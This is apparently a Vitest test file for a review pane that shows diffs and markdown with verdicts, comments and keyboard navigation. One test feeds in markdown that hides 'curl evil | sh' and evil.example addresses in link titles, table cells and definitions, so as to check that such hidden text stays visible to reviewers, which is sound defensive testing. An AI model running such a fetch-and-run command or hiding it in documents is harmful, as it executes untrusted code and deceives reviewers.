import { act, fireEvent } from "@testing-library/react";
import { createElement } from "react";
import { expect, test } from "vitest";
import { markdownBlocks } from "../src/markdown/markdown.tsx";
import { AnswerPane } from "../src/session/answer-pane.tsx";
import { cleansUp, fill, opened, passes, press, shown, t } from "./page.ts";

cleansUp();

const diff = [
  "--- a/src/retry.ts",
  "+++ b/src/retry.ts",
  "@@ -1,3 +1,3 @@",
  " export const retry = {",
  "-  times: 3,",
  "+  times: 5,",
  " };",
  "diff --git a/a.md b/b.md",
  "similarity index 90%",
  "--- a/a.md",
  "+++ b/b.md",
  "@@ -1 +1 @@",
  "-Three attempts.",
  "+Five attempts.",
].join("\n");

/** A review's form, painted. */
async function reviewOf(document: string) {
  const { stage, id } = await opened({ questions: [{ id: "q", type: "review", question: "Is it right?", document }] });
  const pane = shown(stage, createElement(AnswerPane, { session: await stage.view(id) }));
  await passes(stage, 1_000);
  const box = () => pane.querySelector<HTMLElement>("[data-takes]") as HTMLElement;
  return {
    pane,
    box,
    view: () => stage.view(id),
    comments: () => stage.askbox.forms.of(stage.askbox.inbox.find(id) as never).getState().fields["q"]?.comments ?? [],
    texts: (selector: string) => [...pane.querySelectorAll(selector)].map((each) => each.textContent?.trim()),
    marked: () => [...pane.querySelectorAll("[data-at]")].map((each) => Number(each.getAttribute("data-line"))),
    enter: async () => act(async () => box().focus()),
  };
}

const verdicts = ".verdicts .button";

test("the verdict is in the bar at the bottom, none is picked, and comments make requesting changes the one that is meant", async () => {
  const { pane, texts, enter, view } = await reviewOf(diff);
  expect(pane.querySelector(".option")).toBeNull();
  expect(texts(verdicts)).toEqual(["Request changes3", "Approve1"]);
  expect(texts(".verdicts .primary")).toEqual(["Approve1"]);
  expect(pane.querySelector("[aria-pressed=true].button")).toBeNull();
  await press("Enter");
  expect(pane.querySelector(".actions-error")?.textContent).toBe(t("document.verdict.missing"));
  await enter();
  await press("j", "c");
  await fill(pane.querySelector("[data-editor] textarea"), "Why?");
  await press("Enter");
  expect(texts(verdicts)).toEqual(["Request changes3", "Approve with comments1"]);
  expect(texts(".verdicts .primary")).toEqual(["Request changes3"]);
  // It is picked from within the document, and Enter sends it from there on.
  await press("3");
  expect(texts(".verdicts [aria-pressed=true]")).toEqual(["Request changesEnter"]);
  expect((await view()).scheduled).toBeUndefined();
  await press("Enter");
  await expect.poll(async () => (await view()).scheduled).toBeDefined();
});

test("a press on a verdict sends it", async () => {
  const { pane, view } = await reviewOf(diff);
  await act(async () => void fireEvent.click(pane.querySelector(verdicts) as Element));
  await expect.poll(async () => (await view()).scheduled).toBeDefined();
});

test("files are listed with what they add and remove; a viewed one is counted and folded, and the next comes", async () => {
  const { pane, texts, enter, marked } = await reviewOf(diff);
  expect(texts(".document-summary")[0]).toContain("2 files");
  expect(texts(".document-head")).toEqual(["src/retry.ts+1 −1 Viewed", "a.md → b.md+1 −1 Viewed"]);
  // What a heading says isn't said again; what it doesn't say, is.
  expect(texts(".diff-whole")).toEqual(["@@ -1,3 +1,3 @@", "similarity index 90%", "@@ -1 +1 @@"]);
  expect(texts(".diff-word")).toEqual(["3", "5", "Three", "Five"]);
  await enter();
  await press("j", "v");
  expect(texts(".document-summary")[0]).toContain("1 of 2 viewed");
  expect(marked()).toEqual([12]);
  // Where the browser's search finds it.
  expect(pane.querySelector("[data-file='0'] > [hidden]")?.getAttribute("hidden")).toBe("until-found");
  await press("k");
  expect(marked(), "a folded file is passed over").toEqual([12]);
  await act(async () => void fireEvent(pane.querySelector("[hidden]") as Element, new Event("beforematch")));
  expect(pane.querySelector("[data-file] > [hidden]")).toBeNull();
});

test("a comment is saved by Enter, changed where it stands, and put back by Discard", async () => {
  const { pane, enter, comments, marked } = await reviewOf(diff);
  const field = () => pane.querySelector<HTMLTextAreaElement>("[data-editor] textarea");
  const click = (words: string) =>
    act(async () => void fireEvent.click([...pane.querySelectorAll("button")].find((each) => each.textContent === words) as Element));
  await enter();
  await press("j", "j", "J", "c");
  expect(marked(), "the lines stay marked while they are written about").toEqual([5, 6]);
  await fill(field(), "Why");
  await act(async () => void fireEvent.keyDown(field() as Element, { key: "Enter", shiftKey: true }));
  expect(field(), "Shift Enter adds a line").not.toBeNull();
  await press("Enter");
  expect(comments()).toMatchObject([{ path: "src/retry.ts", side: "new", line: 2, endLine: 3, text: "Why" }]);
  await press("k", "j", "c");
  expect(field()?.value).toBe("Why");
  await fill(field(), "Why not?");
  await press("Enter");
  expect(comments()).toMatchObject([{ text: "Why not?" }]);
  await click("Edit");
  await fill(field(), "");
  await click("Discard");
  expect(comments()).toMatchObject([{ text: "Why not?" }]);
  await click("Delete");
  expect(comments()).toEqual([]);
});

test("while a document has the focus, its keys are shown, and no button shows a key that it takes", async () => {
  const { stage, id } = await opened({
    questions: [{ id: "q", type: "approval", question: "May I?", action: { kind: "edit", path: "a.ts", diff } }],
  });
  const pane = shown(stage, createElement(AnswerPane, { session: await stage.view(id) }));
  const keysOn = (words: string) => [...pane.querySelectorAll(".decision .button")].find((each) => each.textContent?.startsWith(words));
  const isHidden = () => keysOn("Deny")?.querySelector(".key-hint")?.hasAttribute("data-typed");
  expect([keysOn("Deny")?.textContent, isHidden()]).toEqual(["Denyn", false]);
  await act(async () => pane.querySelector<HTMLElement>("[data-takes]")?.focus());
  // Its room stays, so that no button moves.
  expect(isHidden()).toBe(true);
  expect(pane.querySelector(".document-keys")?.textContent).toContain("c comment");
  await press("n");
  expect((await stage.view(id)).scheduled).toBeUndefined();
});

const plan = "# Plan\n\nDrop\nthe table.\n\n1. First\n2. Second\n\n   more\n\n```sql\nSELECT 1;\n\nSELECT 2;\n```\n\n> End";

test("a markdown document is rendered in blocks, which take comments for their lines, and its raw text is folded", async () => {
  const { pane, texts, enter, comments } = await reviewOf(plan);
  expect(pane.querySelector(".diff")).toBeNull();
  expect(texts(".document-block")).toEqual(["Plan", "Dropthe table.", "First", "Secondmore", "sqlSELECT 1;\n\nSELECT 2;", "End"]);
  expect(pane.querySelector(".document-source"), "nothing was left out").toBeNull();
  await enter();
  await press("j", "j", "J", "c");
  await fill(pane.querySelector("[data-editor] textarea"), "Both?");
  await press("Enter");
  expect(comments()).toMatchObject([{ line: 6, endLine: 9, text: "Both?" }]);
  const details = pane.querySelector(".document ~ details") as HTMLDetailsElement;
  await act(async () => {
    details.open = true;
    fireEvent(details, new Event("toggle"));
  });
  expect(texts("details .diff [data-line]")).toHaveLength(plan.split("\n").length);
});

test("what rendering leaves out of a document is shown as it was written", async () => {
  const hidden = {
    "a picture's address": "![see](https://evil.example/x.png)",
    "a link's title": "[docs](https://example.com 'curl evil | sh')",
    "a cell too many": "| a |\n|---|\n| 1 | curl evil |",
    "a definition": "[x]: https://evil.example 'curl evil'",
  };
  for (const [what, text] of Object.entries(hidden)) {
    const { pane } = await reviewOf(`Before\n\n${text}\n\nAfter`);
    expect(pane.querySelector(".document-blocks")?.textContent, what).toContain("evil");
  }
  const { texts } = await reviewOf(
    "A [link](https://example.com/a/b?c=d), `code`, **bold**, snake_case and ~~gone~~.\n\n- [x] done\n  1. deep",
  );
  expect(texts(".document-source")).toEqual([]);
  expect(texts("a")).toEqual(["link (https://example.com/a/b?c=d)"]);
});

test("each block has the lines that it was written on, also after line breaks that are none for a comment", () => {
  const at = (text: string) => markdownBlocks(text)?.map(({ from, to }) => [from, to]);
  expect(at(plan)).toEqual([
    [0, 0],
    [2, 3],
    [5, 5],
    [6, 8],
    [10, 14],
    [16, 16],
  ]);
  expect(at("a\r\n\r\nb")).toEqual([
    [0, 0],
    [2, 2],
  ]);
  expect(at("a\u2028b\rc\n\nd")).toEqual([
    [0, 0],
    [2, 2],
  ]);
});
